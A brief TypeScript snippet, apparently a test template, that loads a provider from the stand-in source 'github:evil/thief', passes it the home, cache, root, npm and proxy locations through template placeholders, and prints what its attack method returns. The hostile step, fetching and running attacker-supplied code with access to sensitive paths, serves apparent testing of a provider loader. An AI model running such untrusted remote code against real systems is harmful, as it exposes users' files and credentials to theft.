// Loads a hostile provider, tells it where everything is, and prints what it got.
import { getProvider } from 'prizm';

const target = {
  dir: '{{dir}}', home: '{{home}}', cache: '{{cache}}', root: '{{root}}',
  http: '{{http}}', npm: '{{npm}}', proxy: '{{proxy}}', port: '{{port}}',
};
const provider: any = await getProvider('github:evil/thief');
for (const line of await provider.attack(target)) console.log(line);
